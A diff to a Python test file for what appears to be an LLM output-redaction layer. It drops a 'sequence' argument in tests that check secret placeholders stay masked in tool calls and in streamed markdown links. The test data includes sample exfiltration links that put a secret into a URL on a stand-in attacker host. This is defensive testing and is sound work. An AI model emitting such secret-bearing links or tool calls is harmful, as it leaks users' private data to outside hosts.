@@ -201,11 +201,11 @@ async def test_the_response_says_what_stayed_and_why() -> None:
 
 async def test_arguments_wait_for_the_name_that_decides() -> None:
     """A call that is named late, in whatever pieces, is treated like any other; one without a name gets nothing."""
-    pieces = [bl.types.ToolCallDelta(sequence=0, index=0, arguments=sign) for sign in '{"a": "<SECRET_1>"}']
+    pieces = [bl.types.ToolCallDelta(index=0, arguments=sign) for sign in '{"a": "<SECRET_1>"}']
     for name, expected in (("send", SECRET), ("web_fetch", "<SECRET_1>"), (None, "<SECRET_1>")):
         for at in (0, 1, 9, len(pieces)):
             deltas = [*pieces]
-            deltas.insert(at, bl.types.ToolCallDelta(sequence=0, index=0, id="1", name=name))
+            deltas.insert(at, bl.types.ToolCallDelta(index=0, id="1", name=name))
             (arguments,) = await calls_of(bl.Redaction(Deltas(*deltas), restore_tools=["send"]))
             assert json.loads(arguments) == {"a": expected}
 
@@ -214,8 +214,8 @@ async def test_a_call_that_changes_its_name_is_refused() -> None:
     """Arguments that were restored for one tool are never another one's."""
     redaction = bl.Redaction(
         Deltas(
-            bl.types.ToolCallDelta(sequence=0, index=0, id="1", name="send", arguments='{"a": "<SECRET_1>"}'),
-            bl.types.ToolCallDelta(sequence=0, index=0, name="web_fetch"),
+            bl.types.ToolCallDelta(index=0, id="1", name="send", arguments='{"a": "<SECRET_1>"}'),
+            bl.types.ToolCallDelta(index=0, name="web_fetch"),
         ),
         restore_tools=["send"],
     )
@@ -240,12 +240,12 @@ async def test_a_link_goes_on_over_chunks_and_what_comes_between_them(kind: str)
     """Its head in an earlier chunk, a call and thinking in between: it is the same link."""
     make: Any = {
         "text": lambda text: text,
-        "delta": lambda text: bl.types.TextDelta(sequence=0, text=text),
-        "reasoning": lambda text: bl.types.ReasoningDelta(sequence=0, reasoning=text),
+        "delta": lambda text: bl.types.TextDelta(text=text),
+        "reasoning": lambda text: bl.types.ReasoningDelta(reasoning=text),
     }[kind]
     between = [
-        bl.types.ToolCallDelta(sequence=0, index=0, id="1", name="x", arguments="{}"),
-        bl.types.ReasoningDelta(sequence=0, reasoning="") if kind != "reasoning" else "hm ",
+        bl.types.ToolCallDelta(index=0, id="1", name="x", arguments="{}"),
+        bl.types.ReasoningDelta(reasoning="") if kind != "reasoning" else "hm ",
     ]
     pieces = ["![", "](https://evil.exa", "mple/?a b ", "<SEC", "RET_1>", ") and <SECR", "ET_1>"]
     inner = Deltas(*(each for piece in pieces for each in (make(piece), *between)))
@@ -257,8 +257,8 @@ async def test_a_link_goes_on_over_chunks_and_what_comes_between_them(kind: str)
 async def test_a_signature_in_the_middle_of_a_link_does_not_end_it() -> None:
     """Pieces of thinking are shown one after another."""
     inner = Deltas(
-        bl.types.ReasoningDelta(sequence=0, reasoning="![](https://evil.example/?", signature="s"),
-        bl.types.ReasoningDelta(sequence=0, reasoning="<SECRET_1>)"),
+        bl.types.ReasoningDelta(reasoning="![](https://evil.example/?", signature="s"),
+        bl.types.ReasoningDelta(reasoning="<SECRET_1>)"),
     )
     response = await bl.Redaction(inner).complete(ASKED)
     assert response.reasoning == "![](https://evil.example/?<SECRET_1>)"
@@ -372,10 +372,10 @@ async def test_a_signed_text_in_the_middle_of_an_address_does_not_end_it() -> No
     class Signs(ScriptedBackend):
         async def generate(self, request: bl.ChatRequest, draft: Any) -> Any:
             yield "See https://"
-            yield bl.types.TextDelta(sequence=0, text="<EMAIL_1>", signature="s")
+            yield bl.types.TextDelta(text="<EMAIL_1>", signature="s")
             yield ".evil.example/ and "
-            yield bl.types.TextDelta(sequence=0, text="<EMAIL_1>", signature="s")
-            yield bl.types.TextDelta(sequence=0, signature="s")
+            yield bl.types.TextDelta(text="<EMAIL_1>", signature="s")
+            yield bl.types.TextDelta(signature="s")
             yield ".evil.example/"
 
     response = await bl.Redaction(Signs(leaves_device=True)).complete("ada@example.org")
